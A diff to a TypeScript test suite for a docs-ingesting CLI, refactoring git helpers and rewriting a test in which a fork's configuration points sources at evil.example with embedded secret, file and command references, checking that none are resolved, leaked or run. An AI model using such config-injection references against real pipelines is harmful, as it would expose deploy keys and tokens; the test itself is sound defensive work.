@@ -9,22 +9,20 @@ import { runHere } from "./cli-here.ts";
 /** A repository with its configuration and its documents in it, as most teams have it. */
 let dir: string;
 const folders: string[] = [];
-const git = (...args: string[]) =>
-  execFileSync("git", ["-c", "user.name=T", "-c", "user.email=t@example.com", ...args], {
-    cwd: dir,
-    encoding: "utf8",
-    stdio: ["ignore", "pipe", "pipe"],
-  }).trim();
+const asCommitter = ["-c", "user.name=T", "-c", "user.email=t@example.com"];
+const run = (program: string, ...args: string[]) =>
+  execFileSync(program, args, { cwd: dir, encoding: "utf8", stdio: ["ignore", "pipe", "pipe"] }).trim();
+const git = (...args: string[]) => run("git", ...asCommitter, ...args);
+/** Several commands of git from one shell: each that starts here costs by the memory of this process. */
+const shell = (script: string, ...words: string[]) =>
+  run("sh", "-ec", `git() { command git ${asCommitter.join(" ")} "$@"; }; ${script}`, "sh", ...words);
 const write = (file: string, text: string) => {
   const to = path.join(dir, file);
   mkdirSync(path.dirname(to), { recursive: true });
   writeFileSync(to, text);
 };
-const commit = (message = "change") => {
-  git("add", "-A");
-  git("commit", "-q", "--allow-empty", "-m", message);
-  return git("rev-parse", "HEAD");
-};
+const commit = (message = "change") =>
+  shell('git add -A; git commit -q --allow-empty -m "$1"; git rev-parse HEAD', message);
 const configure = (edit: (text: string) => string) =>
   write("fin.yaml", edit(readFileSync(path.join(dir, "fin.yaml"), "utf8")));
 type Env = Readonly<Record<string, string>>;
@@ -52,11 +50,9 @@ sources:
 beforeEach(() => {
   dir = mkdtempSync(path.join(tmpdir(), "fin-ingest-pr-"));
   folders.push(dir);
-  git("init", "-q", "-b", "main", "--template=");
   write("fin.yaml", config);
   for (const name of ["install", "export", "login"]) write(`docs/${name}.md`, page(name));
-  commit("first");
-  git("checkout", "-q", "-b", "feature");
+  shell("git init -q -b main --template=; git add -A; git commit -q -m first; git checkout -q -b feature");
 });
 afterEach(() => {
   for (const folder of folders.splice(0)) rmSync(folder, { recursive: true, force: true });
@@ -257,17 +253,25 @@ describe("a fork's configuration is hostile", () => {
     commit("from a fork");
   };
 
-  it.each([
-    ["a variable", "${DEPLOY_KEY}"],
-    ["Intercom's token", "${INTERCOM_ACCESS_TOKEN}"],
-    ["a file", "${file:./secret.txt}"],
-    ["a command", "${cmd:touch ran.txt}"],
-  ])("%s is not resolved, in whatever it could show itself", async (_, reference) => {
+  it("a variable, Intercom's token, a file or a command is not resolved, in whatever it could show itself", async () => {
+    const references = {
+      docs: "${DEPLOY_KEY}",
+      token: "${INTERCOM_ACCESS_TOKEN}",
+      file: "${file:./secret.txt}",
+      command: "${cmd:touch ran.txt}",
+    };
     write(".gitignore", "secret.txt\n");
     writeFileSync(path.join(dir, "secret.txt"), "s3cret-of-the-machine");
-    hostile((text) =>
-      text.replace("https://docs.example.com/{slug}", `https://evil.example/${reference}/{slug}`),
-    );
+    hostile((text) => {
+      const [head = "", source = ""] = text.split("  docs:\n");
+      const sources = Object.entries(references).map(
+        ([name, reference]) =>
+          `  ${name}:\n${source
+            .replace("url: https://docs", `url: https://${name}`)
+            .replace("docs.example.com/{slug}", `evil.example/${reference}/{slug}`)}`,
+      );
+      return `${head}${sources.join("")}`;
+    });
     for (const [format, run] of [
       ["markdown", runHere],
       ["github", runHere],
@@ -277,7 +281,10 @@ describe("a fork's configuration is hostile", () => {
       const { code, stdout, stderr } = await ci(["--base", "main", "--format", format], env, run);
       expect(code, stderr).toBe(0);
       expect(stdout + stderr).not.toMatch(/k3y-of|tok_fork|s3cret-of/);
-      if (format === "json") expect(ids(JSON.parse(stdout).learn)).toEqual(["new.md"]);
+      if (format !== "json") continue;
+      const { learn }: { learn: { source: string; externalId: string }[] } = JSON.parse(stdout);
+      const shown = learn.filter(({ externalId }) => externalId === "new.md").map(({ source }) => source);
+      expect(shown.sort()).toEqual(Object.keys(references).sort());
     }
     expect(existsSync(path.join(dir, "ran.txt"))).toBe(false);
   });
